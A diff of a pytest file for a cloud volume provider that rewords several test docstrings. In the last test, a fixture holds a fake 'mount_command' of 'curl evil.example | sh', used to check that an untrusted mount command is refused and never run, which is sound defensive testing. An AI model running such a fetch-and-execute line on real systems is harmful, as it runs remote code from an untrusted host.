@@ -24,7 +24,7 @@ OPTIONS: dict[str, Any] = {"machine": MACHINE, "console": False, "bootstrap_time
 
 @pytest.fixture
 def volumes(verda: Cloud) -> Iterator[Cloud]:
-    """Give a cloud with volumes, which have to be there in the end, and with nobody."""
+    """Give a cloud with volumes, which have to be there in the end, and be free."""
     verda.volume()
     verda.volume("shared", "NVMe_Shared")
     verda.volume("elsewhere", location="FIN-02")
@@ -47,7 +47,7 @@ def note(folder: str, name: str) -> list[str]:
 
 @pytest.mark.usefixtures("with_hosts")
 def test_the_machine_has_the_volume_and_what_is_in_it_outlives_the_machine(volumes: Cloud, tmp_path: Path) -> None:
-    """It is mounted before anybody is let in; the next pool, of a spot machine, finds what the last one wrote."""
+    """It is mounted before any login is let in; the next pool, of a spot machine, finds what the last one wrote."""
     where = str(tmp_path / "data")
     for turn, allocation in enumerate(("on-demand", "spot")):
         provider = volumes.provider(volume="data", mount=where)
@@ -79,7 +79,7 @@ def test_several_machines_have_a_share(volumes: Cloud, tmp_path: Path) -> None:
 def test_a_volume_without_a_filesystem_is_not_formatted_and_has_no_directory(
     volumes: Cloud, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """Whoever writes there is told, and does not write to the machine's own disk."""
+    """A task that writes there hears so, and does not write to the machine's own disk."""
     monkeypatch.setattr("skyward_verda.volumes.BOOT", 0.0)
     volumes.ask("filesystem", "")
 
@@ -182,7 +182,7 @@ def test_a_disk_that_would_be_deleted_with_a_pool_is_refused(volumes: Cloud) -> 
 
 
 def test_a_share_that_is_mounted_in_an_unknown_way_is_refused(volumes: Cloud) -> None:
-    """What Verda says is shown, and run by nobody."""
+    """What Verda says is shown, and never run."""
     row = {**volumes.ask("volumes")[1], "mount_command": "curl evil.example | sh"}
     volumes.fault("GET /v1/volumes", status=200, body=[row])
     error = run(refusal(volumes.provider(volume="shared").skyward_preflight(Spec())))
